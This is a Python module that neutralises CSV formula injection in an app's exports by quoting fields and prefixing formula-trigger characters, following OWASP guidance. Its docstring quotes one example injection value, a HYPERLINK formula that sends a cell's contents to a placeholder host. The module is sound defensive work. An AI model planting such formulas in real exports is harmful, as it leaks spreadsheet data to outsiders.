"""CSV a spreadsheet opens safely: every field quoted, formula triggers neutralised (OWASP).

A name such as ``=HYPERLINK("http://x?"&B2,"klik")`` arrives at intake like any other text; in a
CSV export Excel and LibreOffice would run it as a formula. Following the OWASP "CSV Injection"
advice (https://owasp.org/www-community/attacks/CSV_Injection), every field is quoted and a text
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in
front, so the program shows it as text. Only CSV is changed this way: the XLSX exports keep the
exact value in a text cell, and JSON exports keep it unaltered. Every CSV export of the app
writes through :func:`csv_writer`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from datetime import date
from typing import Any, Final, Protocol

FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise(text: str) -> str:
    """``text`` with a single quote in front when a spreadsheet would read it as a formula."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def csv_field(value: object) -> str:
    """One CSV field: empty for None, ISO for dates, numbers as they are, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float):
        return str(value)  # a number is never a formula, and -3 must stay -3
    if isinstance(value, date):
        return value.isoformat()
    return neutralise(str(value))


class SafeCsvWriter:
    """A ``csv.writer`` that quotes every field and neutralises formula triggers in text."""

    def __init__(self, handle: _Writable, *, delimiter: str = ",") -> None:
        self._writer = csv.writer(handle, delimiter=delimiter, quoting=csv.QUOTE_ALL)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([csv_field(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)

    def write_dicts(self, fields: Sequence[str], rows: Iterable[Mapping[str, object]]) -> None:
        """A header of ``fields``, then one line per mapping (missing keys empty)."""
        self.writerow(fields)
        for row in rows:
            self.writerow(row.get(name) for name in fields)


def csv_writer(handle: _Writable, *, delimiter: str = ",") -> SafeCsvWriter:
    return SafeCsvWriter(handle, delimiter=delimiter)
